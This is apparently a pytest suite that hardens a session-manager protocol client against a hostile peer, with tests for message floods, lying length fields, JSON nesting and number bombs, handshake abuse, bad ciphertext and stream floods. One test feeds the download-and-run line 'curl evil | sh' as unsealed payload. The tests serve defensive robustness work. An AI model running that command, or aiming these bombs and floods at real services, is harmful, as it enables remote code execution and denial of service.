"""A hostile far end: its data costs bounded memory and work, and is dropped or ends the session with a reason.

What is bounded is asserted as such: how much is answered, kept, told. Memory is measured where a lie is small and what
it could make us keep is not.
"""

from __future__ import annotations

import json
import struct
import tracemalloc
from collections.abc import Callable
from typing import Any

import pytest

from session_manager_plugin.errors import EncryptionError, RemoteProtocolError, SessionManagerError
from session_manager_plugin.protocol.acknowledgements import MAX_PENDING_ACKNOWLEDGEMENTS
from session_manager_plugin.protocol.crypto import DATA_KEY_SIZE, PayloadCipher
from session_manager_plugin.protocol.endpoint import SessionEndpoint
from session_manager_plugin.protocol.events import (
    ChannelClosedReceived,
    DataKeyRequired,
    DataReceived,
    MessageRejected,
    PublicationPaused,
    PublicationStarted,
    SessionFailed,
    SessionReady,
)
from session_manager_plugin.protocol.messages import (
    MAX_JSON_DEPTH,
    MAX_JSON_SIZE,
    PayloadType,
    acknowledged_sequence_number,
    parse_json_object,
)
from session_manager_plugin.protocol.outbox import RESUME_INTERVAL
from session_manager_plugin.protocol.payloads import (
    MAX_ACTION_TYPE_LENGTH,
    MAX_ACTIONS,
    ChannelClosed,
    EncryptionChallenge,
    HandshakeComplete,
    HandshakeRequest,
    HandshakeResponse,
    Size,
)
from session_manager_plugin.protocol.rejections import MAX_REJECTED
from session_manager_plugin.protocol.reliable import MAX_HELD_MESSAGES, MAX_HELD_SIZE, MAX_WINDOW
from session_manager_plugin.protocol.role import Role
from session_manager_plugin.protocol.smux import (
    FIN,
    HEADER,
    MAX_STREAMS,
    NOP,
    PSH,
    SYN,
    UPD,
    MuxFailed,
    MuxSession,
    StreamData,
    StreamOpened,
)
from tests.support.pair import Peer, drain_events, new_connection, sent_by

MIB = 1024 * 1024
DATA_KEY = bytes(range(DATA_KEY_SIZE))


def begun() -> tuple[SessionEndpoint, Peer]:
    """A client in a session without a handshake, at 0."""
    client, agent = new_connection(Role.CLIENT), Peer()
    client.connected("token", 0.0)
    client.receive_message(agent.stream("$ "), 0.0)
    client.messages_to_send(0.0)
    drain_events(client)
    return client, agent


def waiting() -> tuple[SessionEndpoint, Peer]:
    """A client that nothing has been sent to yet, at 0."""
    client = new_connection(Role.CLIENT)
    client.connected("token", 0.0)
    client.messages_to_send(0.0)
    return client, Peer()


def request(*actions: dict[str, Any], version: str = "3.3.0.0") -> str:
    return json.dumps({"AgentVersion": version, "RequestedClientActions": list(actions)})


SHELL = {"ActionType": "SessionType", "ActionParameters": {"SessionType": "Standard_Stream"}}
KMS = {"ActionType": "KMSEncryption", "ActionParameters": {"KMSKeyId": "alias/key"}}


def encrypted() -> tuple[SessionEndpoint, Peer, PayloadCipher]:
    """A client that has answered a request for encryption; and what the agent seals with."""
    client, agent = waiting()
    client.receive_message(agent.stream(request(SHELL, KMS), PayloadType.HANDSHAKE_REQUEST), 0.0)
    assert [type(event) for event in drain_events(client)] == [DataKeyRequired]
    client.provide_data_key(DATA_KEY, 0.0, cipher_text=b"sealed")
    client.messages_to_send(0.0)
    return client, agent, PayloadCipher(DATA_KEY, agent=True, random_bytes=bytes)


def reason(client: SessionEndpoint) -> SessionManagerError:
    """The error of the one failure, which is the last that is said."""
    *before, failed = drain_events(client)
    assert isinstance(failed, SessionFailed)
    assert SessionFailed not in map(type, before)
    assert client.next_timeout() is None
    return failed.error


def goes_on(client: SessionEndpoint, agent: Peer) -> None:
    """An honest message is taken and acknowledged."""
    drain_events(client)
    client.messages_to_send(1.0)
    client.receive_message(agent.stream("honest"), 1.0)
    assert drain_events(client) == [DataReceived(1, [b"honest"])]
    assert [each.message_type for each in sent_by(client, 1.0)] == ["acknowledge"]


# Messages.


def changed(message: bytes, offset: int, layout: str, value: int) -> bytes:
    data = bytearray(message)
    struct.pack_into(layout, data, offset, value)
    return bytes(data)


@pytest.mark.parametrize("header_length", [0, 1, 112, 117, 119, 1000, 2**31, 2**32 - 5, 2**32 - 4, 2**32 - 1])
def test_a_header_length_that_lies(header_length: int) -> None:
    client, agent = begun()
    client.receive_message(changed(agent.stream("text", number=1), 0, ">I", header_length), 0.0)
    assert [type(event) for event in drain_events(client)] == [MessageRejected]
    goes_on(client, agent)


@pytest.mark.parametrize("payload_length", [1, 2**31, 2**32 - 1])
def test_a_payload_length_that_lies_is_not_believed(payload_length: int) -> None:
    client, agent = begun()
    client.receive_message(changed(agent.stream("text"), 116, ">I", payload_length), 0.0)
    assert drain_events(client) == [DataReceived(1, [b"text"])]


def test_a_digest_that_lies() -> None:
    client, agent = begun()
    client.receive_message(changed(agent.stream("text", number=1), 80, ">Q", 0), 0.0)
    (rejected,) = drain_events(client)
    assert rejected == MessageRejected("'output_stream_data': the payload does not match its digest")
    goes_on(client, agent)


def test_a_message_of_four_mebibytes_is_taken_or_dropped() -> None:
    client, agent = begun()
    client.receive_message(agent.stream(bytes(4 * MIB)), 0.0)
    assert [event.data for event in drain_events(client) if isinstance(event, DataReceived)] == [bytes(4 * MIB)]
    for message in (bytes(4 * MIB), b"\xff" * 4 * MIB, "\0" * 4 * MIB):
        client.receive_message(message, 0.0)
        assert [type(event) for event in drain_events(client)] == [MessageRejected]
    goes_on(client, agent)


@pytest.mark.parametrize("number", [-1, -(2**63), 2**63 - 1, 10_000_000])
def test_a_sequence_number_that_cannot_be(number: int) -> None:
    client, agent = begun()
    for _ in range(1000):
        client.receive_message(agent.stream(bytes(1000), number=number), 0.0)
    assert client.messages_to_send(0.0) == []
    goes_on(client, agent)


@pytest.mark.parametrize("number", ["-1", "0", "1", "2", str(2**63 - 1), str(-(2**63)), str(2**64), "9" * 4000])
def test_an_acknowledgement_of_what_was_never_sent(number: str) -> None:
    client, agent = begun()
    window = client.send_capacity
    text = f'{{"AcknowledgedMessageSequenceNumber":{number}}}'
    for _ in range(MAX_REJECTED - 1):
        client.receive_message(agent.control("acknowledge", text.encode()), 0.0)
    assert client.in_flight == 0
    assert client.send_capacity == window
    client.send_data(PayloadType.OUTPUT, b"x", 0.0)
    assert client.in_flight == 1
    client.messages_to_send(0.0)
    goes_on(client, agent)


@pytest.mark.parametrize("payload_types", [[1], [1, 11], [99, 2**32 - 1], [4]])
def test_a_flood_of_tiny_messages(payload_types: list[int]) -> None:
    """Each costs one acknowledgement at most; while those cannot leave they are bounded."""
    client, agent = begun()
    for number in range(15_000):
        client.receive_message(agent.stream("x", payload_types[number % len(payload_types)]), 0.0)
        if number % 100 == 0:
            drain_events(client)
    assert len(client.messages_to_send(0.0)) == MAX_PENDING_ACKNOWLEDGEMENTS
    goes_on(client, agent)


def test_a_flood_of_messages_without_a_payload() -> None:
    client, agent = begun()
    for _ in range(1000):
        client.receive_message(agent.stream("x")[:-1], 0.0)
        client.receive_message(changed(agent.stream("x", number=1), 116, ">I", 0)[:-1], 0.0)
    assert {type(event) for event in drain_events(client)} <= {MessageRejected, DataReceived}


def test_a_flood_of_duplicates() -> None:
    client, agent = begun()
    duplicate = agent.stream("$ ", number=0)
    for _ in range(3):
        for _ in range(2 * MAX_PENDING_ACKNOWLEDGEMENTS):
            client.receive_message(duplicate, 0.0)
        assert drain_events(client) == []
        assert len(client.messages_to_send(0.0)) == MAX_PENDING_ACKNOWLEDGEMENTS
    goes_on(client, agent)


def test_a_flood_of_messages_out_of_order_is_held_up_to_a_limit() -> None:
    client, agent = begun()
    for number in range(2, 2 * MAX_HELD_MESSAGES):
        client.receive_message(agent.stream("x", number=number), 0.0)
    assert drain_events(client) == []
    assert len(client.messages_to_send(0.0)) == MAX_HELD_MESSAGES
    client.receive_message(agent.stream("x", number=1), 0.0)
    (event,) = drain_events(client)
    assert isinstance(event, DataReceived)
    assert event.data == b"x" * (MAX_HELD_MESSAGES + 1)


def test_large_messages_out_of_order_are_held_up_to_a_limit() -> None:
    client, agent = begun()
    payload = bytes(MIB)
    for number in range(2, 100):
        client.receive_message(agent.stream(payload, number=number), 0.0)
    assert len(client.messages_to_send(0.0)) == MAX_HELD_SIZE // MIB


@pytest.mark.parametrize(
    "message_type",
    ["mystery_message", "input_stream_data", "agent_session_state", "interactive_shell", "\x1b[2J", "\u202e"],
)
def test_a_flood_of_messages_of_another_type_ends_the_session(message_type: str) -> None:
    client, agent = begun()
    for _ in range(MAX_REJECTED):
        client.receive_message(agent.control(message_type), 0.0)
    error = reason(client)
    assert isinstance(error, RemoteProtocolError)
    assert "not of the Session Manager protocol" in str(error)
    assert str(error).isprintable()
    assert client.messages_to_send(0.0) == []


def test_text_that_is_no_unicode() -> None:
    client, agent = begun()
    client.receive_message("\ud800" * 200, 0.0)
    assert [type(event) for event in drain_events(client)] == [MessageRejected]
    goes_on(client, agent)


# JSON.

BOMBS = {
    "deep arrays": "[" * 50_000 + "]" * 50_000,
    "deep objects": '{"a":' * 20_000 + "1" + "}" * 20_000,
    "deep, not closed": "[" * 100_000,
    "deeper than allowed": '{"a":' + "[" * MAX_JSON_DEPTH + "]" * MAX_JSON_DEPTH + "}",
    "deep, within the interpreter's limit": '{"Properties":' + '{"a":' * 600 + '"\\ud800"' + "}" * 601,
    "a number of 100000 digits": '{"AcknowledgedMessageSequenceNumber":' + "9" * 100_000 + "}",
    "a number of 4000 digits": '{"AcknowledgedMessageSequenceNumber":' + "9" * 4000 + "}",
    "a huge exponent": '{"AcknowledgedMessageSequenceNumber":1e999999999}',
    "NaN": '{"AcknowledgedMessageSequenceNumber":NaN}',
    "infinity": '{"AcknowledgedMessageSequenceNumber":-Infinity}',
    "a float": '{"AcknowledgedMessageSequenceNumber":0.0}',
    "too long": '{"AcknowledgedMessageSequenceNumber":0,"x":"' + "y" * MAX_JSON_SIZE + '"}',
    "a million empty arrays": '{"a":[' + "[]," * MIB + "[]]}",
    "no text": '{"AcknowledgedMessageSequenceNumber":"\ud800"}',
    "nothing": "",
    "null": "null",
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_a_bomb_in_an_acknowledgement(bomb: str) -> None:
    payload = bomb.encode("utf-8", "surrogatepass") or b" "
    with pytest.raises(RemoteProtocolError):
        acknowledged_sequence_number(payload)
    client, agent = begun()
    client.send_data(PayloadType.OUTPUT, b"x", 0.0)
    client.receive_message(agent.control("acknowledge", payload), 0.0)
    assert [type(event) for event in drain_events(client)] == [MessageRejected]
    assert client.in_flight == 1


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
@pytest.mark.parametrize(
    "kind", [HandshakeRequest, HandshakeResponse, HandshakeComplete, EncryptionChallenge, Size, ChannelClosed]
)
def test_a_bomb_in_any_payload(kind: Any, bomb: str) -> None:
    """Read or refused: what is read can be written again."""
    keys = ("RequestedClientActions", "HandshakeTimeToComplete", "Challenge", "cols", "Output", "Errors")
    for text in [bomb, *(f'{{"{key}":{bomb or 0}}}' for key in keys)]:
        try:
            value = kind.from_json(text.encode("utf-8", "surrogatepass"))
        except RemoteProtocolError:
            continue
        assert kind.from_json(value.to_json()) == value
        repr(value)


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
@pytest.mark.parametrize(
    "payload_type",
    [PayloadType.HANDSHAKE_REQUEST, PayloadType.ENC_CHALLENGE_REQUEST, PayloadType.HANDSHAKE_COMPLETE],
)
def test_a_bomb_in_the_handshake_ends_the_session(payload_type: PayloadType, bomb: str) -> None:
    client, agent = waiting()
    client.receive_message(agent.stream(bomb.encode("utf-8", "surrogatepass") or b" ", payload_type), 0.0)
    events = drain_events(client)
    if events:
        (failed,) = events
        assert isinstance(failed, SessionFailed)
        assert isinstance(failed.error, RemoteProtocolError)
        assert len(str(failed.error)) < 200
    else:
        # An object without any action is a request: it asks for nothing, and the answer to it is as short.
        (answer,) = [each for each in sent_by(client, 0.0) if each.message_type == "input_stream_data"]
        assert len(answer.payload) < 200


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_a_bomb_in_the_closing_ends_the_session_all_the_same(bomb: str) -> None:
    client, agent = begun()
    client.receive_message(agent.control("channel_closed", bomb.encode("utf-8", "surrogatepass") or b" "), 0.0)
    assert drain_events(client) == [ChannelClosedReceived("")]


@pytest.mark.parametrize("depth", [MAX_JSON_DEPTH - 1, MAX_JSON_DEPTH])
def test_how_deep_json_may_be(depth: int) -> None:
    """The object itself is one level, too."""
    text = '{"a":' + "[" * (depth - 1) + "]" * (depth - 1) + "}"
    assert list(parse_json_object(text, "it")) == ["a"]
    with pytest.raises(RemoteProtocolError, match="it: the JSON payload is nested too deep"):
        parse_json_object('{"a":' + "[" * MAX_JSON_DEPTH + "]" * MAX_JSON_DEPTH + "}", "it")


def test_brackets_in_text_are_not_depth() -> None:
    assert parse_json_object(json.dumps({"a": "[{" * 1000}), "it") == {"a": "[{" * 1000}


@pytest.mark.parametrize(
    "text",
    [
        '{"cols":-1,"rows":24}',
        '{"cols":80,"rows":4294967296}',
        '{"cols":80,"rows":24.5}',
        '{"cols":true,"rows":24}',
    ],
)
def test_a_size_that_cannot_be(text: str) -> None:
    with pytest.raises(RemoteProtocolError):
        Size.from_json(text)


@pytest.mark.parametrize("errors", ['"text"', "[1]", "[[]]", '[{"a":1}]', "{}", "[null]"])
def test_errors_that_are_no_strings(errors: str) -> None:
    if errors == "{}":
        assert HandshakeResponse.from_json('{"Errors":{}}').errors == ()  # as empty as none
        return
    with pytest.raises(RemoteProtocolError, match="Errors is not a list of strings"):
        HandshakeResponse.from_json(f'{{"Errors":{errors}}}')


# The handshake.


@pytest.mark.parametrize(
    ("actions", "why"),
    [
        ([SHELL] * (MAX_ACTIONS + 1), f"{MAX_ACTIONS + 1} actions are too many"),
        ([{}] * 20_000, "20000 actions are too many"),
        ([{"ActionType": "x" * (MAX_ACTION_TYPE_LENGTH + 1)}], "an ActionType is too long"),
    ],
)
def test_a_request_for_too_much(actions: list[dict[str, Any]], why: str) -> None:
    """Every action costs an answer that is longer than it is."""
    client, agent = waiting()
    client.receive_message(agent.stream(request(*actions), PayloadType.HANDSHAKE_REQUEST), 0.0)
    assert str(reason(client)) == f"HandshakeRequest: {why}"
    assert [each.message_type for each in sent_by(client, 0.0)] == ["acknowledge"]


def test_the_longest_answer_to_a_request() -> None:
    client, agent = waiting()
    huge = {"ActionType": "SessionType", "ActionParameters": {"SessionType": "&" * 60_000}}
    unknown = {"ActionType": "&" * MAX_ACTION_TYPE_LENGTH}
    actions: list[dict[str, Any]] = [huge, *[unknown] * (MAX_ACTIONS - 1)]
    client.receive_message(agent.stream(request(*actions), PayloadType.HANDSHAKE_REQUEST), 0.0)
    assert len(str(reason(client))) < 200
    (answer,) = [each for each in sent_by(client, 0.0) if each.message_type == "input_stream_data"]
    assert len(answer.payload) < MAX_ACTIONS * 6 * 3 * (MAX_ACTION_TYPE_LENGTH + 64)


def test_requests_without_end() -> None:
    """The first is answered, the second ends the session; in one that goes on they are dropped aloud."""
    client, agent = waiting()
    for _ in range(1000):
        client.receive_message(agent.stream(request(SHELL), PayloadType.HANDSHAKE_REQUEST), 0.0)
    assert str(reason(client)) == "handshake: REQUEST_RECEIVED in state RESPONDED"
    assert client.in_flight == 1
    client, agent = begun()
    for _ in range(1000):
        client.receive_message(agent.stream(request(SHELL), PayloadType.HANDSHAKE_REQUEST), 0.0)
    assert {type(event) for event in drain_events(client)} == {MessageRejected}
    assert client.in_flight == 0
    goes_on(client, agent)


def test_challenges_without_end() -> None:
    """A challenge is answered once. The gateway, which has no key, could repeat the agent's own one for ever, and
    every answer would be kept until somebody acknowledges it."""
    client, agent, cipher = encrypted()
    challenge = EncryptionChallenge(cipher.seal(bytes(64))).to_json()
    for _ in range(1000):
        client.receive_message(agent.stream(challenge, PayloadType.ENC_CHALLENGE_REQUEST), 0.0)
    assert str(reason(client)) == "handshake: CHALLENGE_RECEIVED in state PROVED"
    assert client.in_flight == 2  # the response and one proof


@pytest.mark.parametrize("size", [0, 11, 12, 27, 28, 100, 1024])
def test_a_challenge_that_is_garbage(size: int) -> None:
    client, agent, _ = encrypted()
    challenge = EncryptionChallenge(bytes(size)).to_json()
    client.receive_message(agent.stream(challenge, PayloadType.ENC_CHALLENGE_REQUEST), 0.0)
    assert isinstance(reason(client), EncryptionError)


@pytest.mark.parametrize("size", [1, 11, 12, 27, 28, 100, 4 * MIB])
def test_encrypted_garbage_ends_the_session(size: int) -> None:
    """And nothing behind it is delivered, although it can be read: something would be missing."""
    client, agent, cipher = encrypted()
    client.receive_message(agent.stream(HandshakeComplete().to_json(), PayloadType.HANDSHAKE_COMPLETE), 0.0)
    client.receive_message(agent.stream(cipher.seal(b"behind"), number=3), 0.0)
    assert [type(event) for event in drain_events(client)] == [SessionReady]
    client.receive_message(agent.stream(bytes(size), number=2), 0.0)
    assert isinstance(reason(client), EncryptionError)


def test_clear_text_in_an_encrypted_session_ends_it() -> None:
    client, agent, _ = encrypted()
    client.receive_message(agent.stream(HandshakeComplete().to_json(), PayloadType.HANDSHAKE_COMPLETE), 0.0)
    drain_events(client)
    client.receive_message(agent.stream("curl evil | sh; this is not sealed"), 0.0)
    assert isinstance(reason(client), EncryptionError)


def test_a_client_that_answers_for_ever() -> None:
    agent, client = new_connection(Role.AGENT), Peer(Role.CLIENT)
    agent.connected(None, 0.0)
    agent.request_handshake("Port", None, 0.0)
    for _ in range(1000):
        agent.receive_message(client.stream("{}", PayloadType.HANDSHAKE_RESPONSE), 0.0)
    assert agent.in_flight == 2
    assert agent.ready


# What the gateway says by itself.


def test_channel_closed_again_and_again() -> None:
    client, agent = begun()
    for _ in range(1000):
        client.receive_message(agent.control("channel_closed", b'{"Output":"bye"}'), 0.0)
        client.receive_message(agent.stream("ghost"), 0.0)
        client.receive_message(agent.control("pause_publication"), 0.0)
        client.receive_message(b"garbage", 0.0)
    assert drain_events(client) == [ChannelClosedReceived("bye")]
    assert client.messages_to_send(0.0) == []


def windowful() -> tuple[SessionEndpoint, Peer]:
    """A client that has as much in flight as can be."""
    client, agent = begun()
    for number in range(MAX_WINDOW):
        client.send_data(PayloadType.OUTPUT, bytes(1000), 0.0)
        client.receive_message(agent.acknowledge(number), 0.0)
    while client.send_capacity:
        client.send_data(PayloadType.OUTPUT, bytes(1000), 0.0)
    assert client.in_flight == MAX_WINDOW
    client.messages_to_send(0.0)
    return client, agent


@pytest.mark.parametrize(
    "lift",
    [
        lambda agent: agent.control("start_publication", b"start_publication"),
        lambda agent: agent.acknowledge(10**15),
        lambda agent: agent.stream("$ ", number=0),
    ],
    ids=["start", "acknowledgement", "duplicate"],
)
def test_pause_and_start_again_and_again(lift: Callable[[Peer], bytes]) -> None:
    """A few hundred bytes would otherwise cost a mebibyte each time."""
    client, agent = windowful()
    sent = 0
    for _ in range(1000):
        client.receive_message(agent.control("pause_publication", b"pause_publication"), 0.1)
        client.receive_message(lift(agent), 0.1)
        sent += sum(each.message_type == "input_stream_data" for each in sent_by(client, 0.1))
        assert drain_events(client) == [PublicationPaused(), PublicationStarted()]
    assert 0 < sent <= MAX_WINDOW
    # What is in flight is still sent again when its time has come, and at once when some time has passed.
    timeout = client.next_timeout()
    assert timeout is not None
    assert timeout <= 0.1 + RESUME_INTERVAL
    client.receive_message(agent.control("pause_publication", b"pause_publication"), 0.1)
    client.receive_message(lift(agent), 0.1 + RESUME_INTERVAL)
    again = [each for each in sent_by(client, 2.0) if each.message_type == "input_stream_data"]
    assert again


@pytest.mark.parametrize("message_type", ["pause_publication", "start_publication"])
def test_a_body_of_rubbish_in_what_is_not_validated(message_type: str) -> None:
    client, agent = begun()
    for data in (bytes(120), b"\xff" * 4096):
        message = data[:4] + message_type.encode().ljust(32) + data[36:]
        client.receive_message(message, 0.0)
    client.receive_message(agent.control("start_publication"), 0.0)
    assert MessageRejected not in map(type, drain_events(client))
    goes_on(client, agent)


def test_acknowledgements_by_one_who_reads_nothing_are_no_loss() -> None:
    """The window opens for what was acknowledged, whoever did it; nothing more is kept for that."""
    client, agent = begun()
    for number in range(5000):
        client.send_data(PayloadType.OUTPUT, b"x", 0.0)
        client.receive_message(agent.acknowledge(number), 0.0)
        client.messages_to_send(0.0)
    assert client.in_flight == 0
    assert client.send_capacity == MAX_WINDOW


# smux.


def frame(command: int, stream_id: int, data: bytes = b"", *, length: int | None = None) -> bytes:
    return HEADER.pack(1, command, len(data) if length is None else length, stream_id) + data


@pytest.mark.parametrize("role", Role)
@pytest.mark.parametrize("at_once", [True, False], ids=["in one message", "in many"])
def test_a_flood_of_streams(role: Role, at_once: bool) -> None:
    mux = MuxSession(role, keepalive=False, now=0.0)
    flood = b"".join(frame(SYN, number) for number in range(3 * MAX_STREAMS))
    step = len(flood) if at_once else 1024
    tracemalloc.start()
    for position in range(0, len(flood), step):
        mux.receive_data(flood[position : position + step], 0.0)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    events = []
    while (event := mux.next_event()) is not None:
        events.append(event)
    assert isinstance(events[-1], MuxFailed)
    assert isinstance(events[-1].error, RemoteProtocolError)
    assert str(events[-1].error) == f"the far end opened more than {MAX_STREAMS} streams"
    assert [type(event) for event in events[:-1]] == [StreamOpened] * MAX_STREAMS
    assert peak < 64 * MIB


def test_streams_that_are_refused_one_by_one_wait_in_a_bounded_row() -> None:
    """The owner closes each at once, and the FINs cannot leave."""
    mux = MuxSession(Role.CLIENT, keepalive=False, now=0.0)
    for number in range(MAX_STREAMS + 1):
        mux.receive_data(frame(SYN, 2 * number), 0.0)
        event = mux.next_event()
        if isinstance(event, MuxFailed):
            break
        mux.close_stream(2 * number)
    assert isinstance(event, MuxFailed)
    assert mux.send_pending == 0


def test_streams_that_come_and_go_are_no_flood() -> None:
    mux = MuxSession(Role.AGENT, keepalive=False, now=0.0)
    for number in range(3 * MAX_STREAMS):
        mux.receive_data(frame(SYN, number), 0.0)
        assert mux.next_event() == StreamOpened(number)
        mux.close_stream(number)
        assert mux.data_to_send(1024) == frame(FIN, number)


def test_frames_for_streams_that_are_not() -> None:
    mux = MuxSession(Role.CLIENT, keepalive=False, now=0.0)
    flood = b"".join(
        frame(FIN, number) + frame(PSH, number, b"x" * 100) + frame(UPD, number, bytes(8)) + frame(NOP, number)
        for number in range(10_000)
    )
    mux.receive_data(flood, 0.0)
    mux.receive_data(frame(PSH, 9, length=0xFFFF) + bytes(0xFFFF), 0.0)
    assert mux.next_event() is None
    assert mux.total_unread == 0
    assert mux.send_pending == 0


def test_the_same_frames_again_and_again() -> None:
    mux = MuxSession(Role.AGENT, keepalive=False, now=0.0)
    mux.receive_data((frame(SYN, 3) + frame(PSH, 3) + frame(FIN, 3)) * 10_000, 0.0)
    told = []
    while (event := mux.next_event()) is not None:
        told.append(type(event).__name__)
    assert told == ["StreamOpened", "StreamFinished"]


def test_a_flood_of_single_bytes_on_a_stream_is_one_event() -> None:
    mux = MuxSession(Role.AGENT, keepalive=False, now=0.0)
    mux.receive_data(frame(SYN, 3) + frame(PSH, 3, b"x") * 100_000, 0.0)
    assert mux.next_event() == StreamOpened(3)
    event = mux.next_event()
    assert isinstance(event, StreamData)
    assert event.data == b"x" * 100_000
    assert mux.total_unread == 100_000


@pytest.mark.parametrize("garbage", [b"\xff" * MIB, bytes(MIB), bytes(range(256)) * 4096], ids=["ff", "00", "all"])
def test_garbage_in_the_multiplexed_stream(garbage: bytes) -> None:
    mux = MuxSession(Role.CLIENT, keepalive=False, now=0.0)
    for _ in range(10):
        mux.receive_data(garbage, 0.0)
    event = mux.next_event()
    assert isinstance(event, MuxFailed)
    assert isinstance(event.error, RemoteProtocolError)
    assert mux.next_event() is None


def test_our_own_messages_come_back() -> None:
    client, agent = begun()
    client.send_data(PayloadType.OUTPUT, b"mine", 0.0)
    for message in client.messages_to_send(0.0):
        client.receive_message(message, 0.0)
    assert [type(event) for event in drain_events(client)] == [MessageRejected]
    goes_on(client, agent)
